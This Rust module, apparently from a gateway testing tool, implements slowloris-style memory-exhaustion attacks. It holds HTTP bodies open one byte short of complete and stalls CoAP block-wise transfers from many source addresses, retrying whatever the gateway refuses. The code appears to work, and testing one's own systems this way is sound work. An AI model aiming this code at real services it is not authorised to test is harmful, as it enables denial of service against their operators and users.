//! Bodies whose ends are never sent: over HTTP, to a webhook, and in CoAP blocks.

use super::{Outcome, http};
use crate::{Failure, channel::Channel, coap};
use std::{
    io,
    net::{IpAddr, SocketAddr},
    sync::{
        Arc,
        atomic::{AtomicU64, Ordering::Relaxed},
    },
    time::Duration,
};
use tokio::{io::AsyncWriteExt, net::TcpStream, sync::watch, task::JoinSet, time::timeout};

/// The gateway's limit for a body, in bytes.
const MAX_BODY: usize = 1 << 20;
/// Further unfinished bodies fill the memory that the large ones leave, down to less than a small message: `BODIES_PER_SIZE` of each size of
/// `SMALL_SIZES`, in bytes, and all of this three times.
const BODIES_PER_SIZE: usize = 3;
const MAX_SMALL_BODIES: usize = 3 * BODIES_PER_SIZE * SMALL_SIZES.len();
const SMALL_SIZES: [usize; 8] = [256 << 10, 64 << 10, 16 << 10, 4 << 10, 1 << 10, 256, 64, 16];
/// Block sizes as CoAP encodes them: 1024 bytes, and 16 bytes for the `SMALL_BLOCK_SENDERS` further senders.
const BLOCK: u8 = 6;
const SMALL_BLOCK: u8 = 0;
const SMALL_BLOCK_SENDERS: usize = 64;
/// Interval between two checks of the bodies, and delay before a retry.
const CHECK_INTERVAL: Duration = Duration::from_millis(50);
/// Timeout for sending an unfinished body, and for the answer to a block.
const PATIENCE: Duration = Duration::from_secs(3);

/// Sends a body without its last byte to `target` from each of `sources`, and keeps the connections open while `keep_going` returns true.
/// `{}` in `target` is replaced by the sender's number. Bodies that the gateway rejects are sent again.
pub async fn over_http(
    sources: &[IpAddr],
    address: SocketAddr,
    target: &str,
    headers: &str,
    keep_going: impl Fn() -> bool,
) -> Result<Outcome, Failure> {
    let mut connections: Vec<Option<TcpStream>> = sources.iter().map(|_| None).collect();
    let mut small_bodies = Vec::new();
    let mut outcome = Outcome::default();
    let send = async |source, number: usize, length| {
        let headers = format!("{headers}content-length: {MAX_BODY}\r\n");
        let head = http::head("POST", &target.replace("{}", &number.to_string()), address, &headers);
        timeout(PATIENCE, send_unfinished(source, address, &head, length)).await.ok().and_then(Result::ok)
    };
    while keep_going() {
        for (number, (connection, source)) in connections.iter_mut().zip(sources).enumerate() {
            if connection.as_ref().is_none_or(is_answered) {
                *connection = send(*source, number, MAX_BODY - 1).await;
                outcome.sent += 1;
            }
        }
        // One further body in each round, the smallest size last.
        let number = small_bodies.len();
        if let Some(size) = SMALL_SIZES
            .get(number / BODIES_PER_SIZE % SMALL_SIZES.len())
            .filter(|_| number < MAX_SMALL_BODIES)
        {
            small_bodies.push(send(sources[number % sources.len()], sources.len() + number, *size).await);
            outcome.sent += 1;
        } else {
            tokio::time::sleep(CHECK_INTERVAL).await;
        }
        tokio::time::sleep(Duration::from_millis(5)).await;
    }
    outcome.description =
        format!("{} bodies of 1 MiB without the last byte, to {}", sources.len(), target.replace("{}", "N"));
    Ok(outcome)
}

/// Whether the gateway has answered or closed the connection.
fn is_answered(stream: &TcpStream) -> bool {
    !matches!(stream.try_read(&mut [0; 16]), Err(e) if e.kind() == io::ErrorKind::WouldBlock)
}

/// Sends `head` and `length` bytes of a body. Returns the open connection.
async fn send_unfinished(
    source: IpAddr,
    address: SocketAddr,
    head: &str,
    length: usize,
) -> io::Result<TcpStream> {
    let mut stream = http::connect(source, address).await?;
    stream.write_all(head.as_bytes()).await?;
    stream.write_all(&vec![b'1'; length]).await?;
    Ok(stream)
}

/// Fills the memory for messages, `mib` MiB, with stalled transfers: first some that lack only their last block, then, in the remaining
/// memory, some of which only the first block arrived. Transfers that the gateway refuses are retried.
pub async fn over_coap(
    sources: &[IpAddr],
    address: SocketAddr,
    mib: usize,
    keep_going: impl Fn() -> bool,
) -> Result<Outcome, Failure> {
    let blocks = Arc::new(AtomicU64::new(0));
    let (done, _) = watch::channel(0);
    let mut transfers = JoinSet::new();
    let all = MAX_BODY / (16 << BLOCK) - 1;
    let kinds = [(mib, BLOCK, all), (mib, BLOCK, 1), (SMALL_BLOCK_SENDERS, SMALL_BLOCK, 1)];
    let kinds = kinds.iter().flat_map(|(count, size, blocks)| vec![(*size, *blocks); *count]);
    for (number, (size, count)) in kinds.enumerate() {
        let (source, blocks, done) = (sources[number % sources.len()], Arc::clone(&blocks), done.clone());
        transfers.spawn(async move {
            if count == 1 {
                // Waiting fails only without a sender, and this task owns one.
                let _ = done.subscribe().wait_for(|done| *done == mib).await;
            }
            while transfer(source, address, number, (size, count), &blocks).await.is_err() {
                tokio::time::sleep(CHECK_INTERVAL).await;
            }
            done.send_modify(|done| *done += usize::from(count > 1));
        });
    }
    while keep_going() {
        tokio::time::sleep(CHECK_INTERVAL).await;
    }
    transfers.shutdown().await;
    let description = format!("{mib} bodies of 1 MiB without the last block, over CoAP");
    Ok(Outcome { sent: blocks.load(Relaxed), description, ..Outcome::default() })
}

/// Sends the first `count` blocks of a body. Fails with `QuotaExceeded` when the gateway refuses a block, and when an answer is missing.
async fn transfer(
    source: IpAddr,
    address: SocketAddr,
    number: usize,
    (size, count): (u8, usize),
    sent: &AtomicU64,
) -> io::Result<()> {
    let mut channel = Channel::open(address, &SocketAddr::new(source, 0).to_string(), None).await?;
    let device = format!("attacker-{number}");
    for block in 0..count {
        let mut request = block_of(&device, block, size);
        let id = block as u16;
        coap::number(&mut request, id);
        channel.send(&request).await?;
        let answer = async {
            loop {
                if let Some(coap::Answer::Code { class, .. }) = coap::answer(channel.receive().await?, id) {
                    return Ok::<_, io::Error>(class);
                }
            }
        };
        match timeout(PATIENCE, answer).await?? {
            2 => sent.fetch_add(1, Relaxed),
            _ => return Err(io::ErrorKind::QuotaExceeded.into()),
        };
    }
    Ok(())
}

/// The block `number` of a message of `device`; its header says that more blocks follow.
fn block_of(device: &str, number: usize, size: u8) -> Vec<u8> {
    let mut bytes = coap::request(coap::POST, &["ingest", device], Some(50), b"");
    // Remove the payload marker, because another option follows.
    bytes.pop();
    // Block1 (27) follows Content-Format (12): their delta of 15 takes an extra byte (RFC 7252, 3.1).
    let value = (number as u32) << 4 | 8 | u32::from(size);
    bytes.extend([0xd3, 15 - 13]);
    bytes.extend(&value.to_be_bytes()[1..]);
    bytes.push(0xff);
    bytes.resize(bytes.len() + (16 << size), b'1');
    bytes
}
